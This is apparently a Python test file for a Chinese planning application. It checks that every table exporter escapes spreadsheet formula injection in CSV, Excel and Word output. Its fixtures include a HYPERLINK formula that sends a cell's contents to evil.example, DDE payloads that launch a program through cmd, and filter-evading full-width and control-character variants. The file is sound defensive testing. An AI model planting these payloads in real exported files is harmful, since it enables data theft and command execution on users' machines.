"""No exporter hands out a formula: text a spreadsheet would run (=, +, -, @ …) is written as text.

Every subclass of TableExporter in shishi/ is found and fed the same hostile rows through its own
class (so an exporter that overrode a writer would be caught); a new exporter is covered as soon
as it exists. The stored text of a real plan going through the real exporters is in
tests/test_stored_text.py.
"""

from __future__ import annotations

import csv
import importlib
import io
import pkgutil
from decimal import Decimal

import pytest
from docx import Document
from openpyxl import load_workbook

import shishi
from shishi.documents.tables import Column, TableExporter, csv_cell, reads_as_formula

EVIL_LINK = '=HYPERLINK("http://evil.example/?x="&B3,"点击查看附件")'
HOSTILE = [
    EVIL_LINK,
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width signs: some spreadsheet programs read them as their ASCII twins
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\x01=1+1",  # a formula behind a control character that the cleaning takes away
    "\x0b-完成3所",  # Word's manual line break first: a line break, then a sign
    "完成\x0b=1+1",  # a sign after a line break is not at the start of the cell
]
NUMBERS = [-5, Decimal("-3.5"), -0.25, 0]  # numbers stay numbers, negative or not
HOSTILE_TITLE = "=1+1标题"
HOSTILE_LINE = "@单位（盖章）"
FORMULA_SIGNS = tuple("=+-@\t\r＝＋－＠")


def exporter_classes() -> list[type[TableExporter]]:
    """Every TableExporter subclass defined in shishi/, whichever module it lives in."""
    for module in pkgutil.walk_packages(shishi.__path__, "shishi."):
        # Routes hold no exporter, and an app's urls may need the root urls' converters first.
        if (
            ".migrations" in module.name
            or module.name.endswith(".urls")
            or module.name in ("shishi.settings", "shishi.wsgi")
        ):
            continue
        importlib.import_module(module.name)
    found, todo = [], [TableExporter]
    while todo:
        for cls in todo.pop().__subclasses__():
            todo.append(cls)
            if cls.__module__.startswith("shishi."):
                found.append(cls)
    return sorted(set(found), key=lambda cls: f"{cls.__module__}.{cls.__qualname__}")


EXPORTERS = exporter_classes()


def hostile(cls: type[TableExporter]) -> TableExporter:
    """An instance of `cls` whose title, lines, headings and cells are the hostile texts."""
    width = max(len(cls.columns), 5)
    columns = tuple(cls.columns) or tuple(Column(f"列{i}") for i in range(width))
    columns = columns + tuple(Column(f"列{i}") for i in range(len(columns), width))
    columns = (Column("=SUM(A1:A9)", columns[0].width, columns[0].align),) + columns[1:]
    texts = HOSTILE + NUMBERS
    # A 序号 first, a new one each row (MergedLinesExporter merges rows of the same 序号, keeping
    # the first's title); then every text, padded to the width.
    chunks = [texts[start : start + width - 1] for start in range(0, len(texts), width - 1)]
    rows = [[seq, *chunk] + [""] * (width - 1 - len(chunk)) for seq, chunk in enumerate(chunks, 1)]

    class Hostile(cls):
        def __init__(self):
            pass

        title = HOSTILE_TITLE
        filename = "hostile"

        def above_table(self):
            return [HOSTILE_LINE]

        def rows(self):
            return iter(rows)

    Hostile.columns = columns
    Hostile._rows = rows  # MergedLinesExporter reads its rows from here
    return Hostile()


def test_every_exporter_is_found():
    names = {cls.__name__ for cls in EXPORTERS}
    assert {
        "PlanTable",
        "ProjectTable",
        "TargetTable",
        "ReportTable",
        "FigureTable",
        "ThemeTable",
        "IndicatorTable",
        "ContinuityTable",
        "YearEndProjects",
        "YearEndUnits",
        "ProgressForm",
        "MergedLinesExporter",
    } <= names


@pytest.mark.parametrize("cls", EXPORTERS, ids=lambda cls: cls.__name__)
def test_no_csv_cell_reads_as_a_formula(cls):
    data = hostile(cls).to_csv()
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert "'" + EVIL_LINK in cells and "'=SUM(A1:A9)" in cells
    runs = [cell for cell in cells if cell.startswith(FORMULA_SIGNS) and not _number(cell)]
    assert runs == []
    assert {"-5", "-3.5", "-0.25"} <= set(cells)  # numbers written as numbers, no apostrophe
    assert not any(ch in cell for cell in cells for ch in "\x01\x0b\r")


@pytest.mark.parametrize("cls", EXPORTERS, ids=lambda cls: cls.__name__)
def test_no_xlsx_cell_is_a_formula_and_each_shows_its_text(cls):
    sheet = load_workbook(io.BytesIO(hostile(cls).to_xlsx())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    # Excel's own mark for text typed with a leading apostrophe: shown as typed, kept as text when edited.
    unmarked = [
        cell.coordinate for cell in texts if cell.value.startswith(FORMULA_SIGNS) and not cell.quotePrefix
    ]
    assert unmarked == []
    values = {cell.value for cell in texts}
    assert {
        EVIL_LINK,
        HOSTILE_TITLE,
        HOSTILE_LINE,
        "=SUM(A1:A9)",
        "=1+1",
        "\n-完成3所",
        "完成\n=1+1",
    } <= values
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -5 in numbers and -3.5 in numbers and -0.25 in numbers


@pytest.mark.parametrize("cls", EXPORTERS, ids=lambda cls: cls.__name__)
def test_the_word_table_holds_the_text_as_written(cls):
    document = Document(io.BytesIO(hostile(cls).to_docx()))
    text = "\n".join(cell.text for table in document.tables for row in table.rows for cell in row.cells)
    assert EVIL_LINK in text and "完成\n=1+1" in text and "'" + EVIL_LINK not in text  # Word runs no formula
    assert not any(ch in text for ch in "\x01\x0b\r")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL_LINK, "'" + EVIL_LINK),
        ("-5", "-5"),  # a number written as text is still only a number
        ("+3.5", "+3.5"),
        ("-5+1", "'-5+1"),
        ("=", "="),  # a sign alone runs nothing: a target's relation is written so
        ("=1", "'=1"),
        ("－1", "'－1"),
        ("\t1", "'\t1"),
        ("完成3所", "完成3所"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_a_csv_cell(value, written):
    assert csv_cell(value) == written


def test_only_text_can_read_as_a_formula():
    assert reads_as_formula("=1") and reads_as_formula("@A1")
    assert not reads_as_formula(-1) and not reads_as_formula("-1") and not reads_as_formula("1-1")


def test_a_sheet_name_holds_no_character_excel_refuses():
    class Slashed(TableExporter):
        title = "2023/2024年[实事]:进展?*\\\x0b"
        columns = (Column("甲"),)

        def rows(self):
            yield ("乙",)

    book = load_workbook(io.BytesIO(Slashed().to_xlsx()))
    assert book.active.title == "2023／2024年［实事］：进展？＊＼"
    assert book.active["A1"].value == "2023/2024年[实事]:进展?*\\\n"


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True
